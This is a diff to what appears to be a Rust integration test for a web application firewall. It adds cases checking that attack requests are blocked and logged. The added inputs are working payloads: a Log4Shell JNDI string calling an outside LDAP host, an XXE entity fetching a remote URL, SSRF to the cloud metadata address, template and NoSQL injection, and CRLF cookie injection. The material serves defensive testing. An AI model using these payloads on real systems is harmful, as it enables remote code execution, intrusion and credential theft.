@@ -174,6 +174,40 @@ upstream = "up"
             ),
             "a-null",
         ),
+        (
+            "log4shell",
+            at(
+                "/api/items",
+                &[("user-agent", "${${lower:j}ndi:ldap://198.18.0.1/a}")],
+            ),
+            "a-jndi",
+        ),
+        (
+            "template",
+            at("/api/greet?name=%7B%7B7*7%7D%7D", &[]),
+            "a-ssti",
+        ),
+        (
+            "nosql",
+            at("/api/login?user=admin&pass%5B%24ne%5D=x", &[]),
+            "a-nosql",
+        ),
+        (
+            "metadata",
+            at(
+                "/api/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
+                &[],
+            ),
+            "a-ssrf",
+        ),
+        (
+            "response splitting",
+            at(
+                "/api/redirect?to=%2Fhome%0d%0aSet-Cookie%3A%20admin%3D1",
+                &[],
+            ),
+            "a-crlf",
+        ),
     ];
     let served = up.served();
     for (what, mut req, id) in attacks {
@@ -198,6 +232,14 @@ upstream = "up"
     json.headers_mut()
         .insert("x-request-id", "a-json".parse().unwrap());
     blocked(&send(&client, json).await, "json body");
+    let mut xml = post(
+        &url("/api/import"),
+        "application/xml",
+        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://198.18.0.1/x\">]><r>&x;</r>",
+    );
+    xml.headers_mut()
+        .insert("x-request-id", "a-xxe".parse().unwrap());
+    blocked(&send(&client, xml).await, "xml body");
     // A file name in a multipart body, and a body that arrives gzipped.
     let mut multipart = post(
         &url("/api/upload"),
@@ -263,7 +305,7 @@ upstream = "up"
     assert!(
         eventually(Duration::from_secs(5), || {
             let lines = web::audit_lines(&setup);
-            ["a-json", "a-br", "w-1"]
+            ["a-json", "a-xxe", "a-br", "w-1"]
                 .iter()
                 .all(|id| lines.iter().any(|l| l["request_id"] == *id))
         })
@@ -291,6 +333,12 @@ upstream = "up"
         ("a-multipart", "inspect:trav-001"),
         ("a-gzip", "inspect:sqli-001"),
         ("a-br", "inspect:limit-002"),
+        ("a-jndi", "inspect:rce-001"),
+        ("a-ssti", "inspect:ssti-001"),
+        ("a-nosql", "inspect:nosqli-001"),
+        ("a-ssrf", "inspect:ssrf-001"),
+        ("a-crlf", "inspect:crlf-001"),
+        ("a-xxe", "inspect:xxe-001"),
     ] {
         let l = line(id);
         assert_eq!(l["status"], 403, "{l}");
